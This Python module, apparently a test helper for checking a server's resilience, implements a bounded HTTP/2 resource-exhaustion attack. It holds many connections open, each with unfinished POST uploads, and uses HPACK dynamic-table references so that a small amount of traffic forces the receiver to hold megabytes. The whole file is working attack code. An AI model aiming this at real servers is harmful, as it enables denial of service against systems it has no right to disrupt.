"""Attacks of one hostile client, each bounded. Standard library only: a bare container runs this file."""

from __future__ import annotations

import contextlib
import socket
import struct
from collections.abc import Callable, Iterator

SETTINGS, HEADERS = 4, 1
END_HEADERS = 4


def http2_flood(
    connect: Callable[[], socket.socket], connections: int, streams: int
) -> contextlib.AbstractContextManager[int]:
    """Hold connections with many unfinished uploads of HTTP/2 each; yield how many connections are held.

    Each stream names a body of 60,000 bytes that never comes, and one header of 4,000 bytes twenty times. The
    header is sent once and then repeated by its number (RFC 7541), so 12 KB make the receiver hold 8 MB.
    """
    return _held(connect, connections, _greeting(streams))


@contextlib.contextmanager
def _held(connect: Callable[[], socket.socket], connections: int, greeting: bytes) -> Iterator[int]:
    held: list[socket.socket] = []
    try:
        for _ in range(connections):
            with contextlib.suppress(OSError):
                connection = connect()
                held.append(connection)
                connection.sendall(greeting)
        yield len(held)
    finally:
        for connection in held:
            connection.close()


def _greeting(streams: int) -> bytes:
    pieces = [b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n", _frame(SETTINGS, 0, 0, b"")]
    for number in range(streams):
        # POST, https and / are entries of the static table; 1 is the name :authority.
        block = b"\x83\x87\x84\x01" + _text(b"localhost")
        block += b"\x00" + _text(b"content-length") + _text(b"60000")
        large = b"\x40" + _text(b"x") + _text(b"x" * 4000) if number == 0 else b"\xbe"
        pieces.append(_frame(HEADERS, END_HEADERS, 2 * number + 1, block + large + b"\xbe" * 19))
    return b"".join(pieces)


def _frame(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def _text(value: bytes) -> bytes:
    """Return the value with its length before it (RFC 7541 section 5.2, without Huffman coding)."""
    length, most = len(value), 127
    if length < most:
        return bytes([length]) + value
    rest, encoded = length - most, [most]
    while rest >= 128:
        encoded.append(rest % 128 + 128)
        rest //= 128
    return bytes([*encoded, rest]) + value
